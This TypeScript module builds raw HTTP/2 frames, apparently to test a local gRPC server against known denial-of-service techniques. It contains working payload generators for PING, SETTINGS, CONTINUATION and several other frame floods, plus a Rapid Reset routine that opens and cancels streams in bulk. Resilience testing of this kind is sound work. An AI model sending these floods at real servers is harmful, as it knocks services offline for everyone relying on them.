/** HTTP/2 by hand, for peers that no library would be: floods, and streams cut at once. */

const DATA = 0;
const HEADERS = 1;
const PRIORITY = 2;
const RST_STREAM = 3;
const SETTINGS = 4;
const PING = 6;
const WINDOW_UPDATE = 8;
const CONTINUATION = 9;
/** Of no version of HTTP/2: to be ignored. */
const UNKNOWN = 0xbe;
const PADDED = 8;
const END_HEADERS = 4;
const CANCEL = 8;
/** Entries of HPACK's static table. */
const STATIC = { authority: 1, path: 4, contentType: 31, isPost: 0x83, isHttp: 0x86 } as const;
const NOTHING = Buffer.alloc(0);
const FIRST = 1;

function frame(type: number, flags: number, stream: number, body: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(body.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, body]);
}

/** A header whose name is in the static table, not to be stored. */
function header(name: number, value: string): Buffer {
  const bytes = Buffer.from(value);
  const index = name < 15 ? [name] : [15, name - 15];
  return Buffer.concat([Buffer.from([...index, bytes.length]), bytes]);
}

/** The headers of a call. */
function callOf(path: string): Buffer {
  return Buffer.concat([
    Buffer.from([STATIC.isPost, STATIC.isHttp]),
    header(STATIC.path, path),
    header(STATIC.authority, "localhost"),
    header(STATIC.contentType, "application/grpc"),
  ]);
}

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

/** What a client sends first. */
const OPENING = Buffer.concat([
  Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  frame(SETTINGS, 0, 0, NOTHING),
]);
/** In the midst of a call to the path. */
const inCall = (path: string) =>
  Buffer.concat([OPENING, frame(HEADERS, END_HEADERS, FIRST, callOf(path))]);

/** The beginning of a connection, and what is then sent again and again. */
interface Flood {
  readonly opening: Buffer;
  readonly repeated: Buffer;
}

/** By what is repeated; the path is that of a call. */
export const FLOODS = Object.freeze({
  PING: () => ({ opening: OPENING, repeated: frame(PING, 0, 0, Buffer.alloc(8)) }),
  SETTINGS: () => ({ opening: OPENING, repeated: frame(SETTINGS, 0, 0, NOTHING) }),
  "empty DATA": (path) => ({ opening: inCall(path), repeated: frame(DATA, 0, FIRST, NOTHING) }),
  "DATA of padding": (path) => ({
    opening: inCall(path),
    repeated: frame(DATA, PADDED, FIRST, Buffer.from([0])),
  }),
  "empty HEADERS": (path) => ({
    opening: inCall(path),
    repeated: frame(HEADERS, END_HEADERS, FIRST, NOTHING),
  }),
  PRIORITY: () => ({ opening: OPENING, repeated: frame(PRIORITY, 0, 1, Buffer.alloc(5)) }),
  WINDOW_UPDATE: () => ({ opening: OPENING, repeated: frame(WINDOW_UPDATE, 0, 0, uint32(1)) }),
  "unknown frames": () => ({ opening: OPENING, repeated: frame(UNKNOWN, 0, 0, NOTHING) }),
  CONTINUATION: (path) => ({
    opening: Buffer.concat([OPENING, frame(HEADERS, 0, FIRST, callOf(path))]),
    repeated: frame(CONTINUATION, 0, FIRST, header(STATIC.authority, "x".repeat(100))),
  }),
} satisfies Readonly<Record<string, (path: string) => Flood>>);

export function times(count: number, { repeated }: Flood): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => repeated));
}

/** The beginning of a connection, and so many streams: each opened, and cancelled at once. */
export function rapidResets(count: number, path: string): Buffer {
  const headers = callOf(path);
  const cancel = uint32(CANCEL);
  return Buffer.concat([
    OPENING,
    ...Array.from({ length: count }, (_, n) => [
      frame(HEADERS, END_HEADERS, 2 * n + 1, headers),
      frame(RST_STREAM, 0, 2 * n + 1, cancel),
    ]).flat(),
  ]);
}
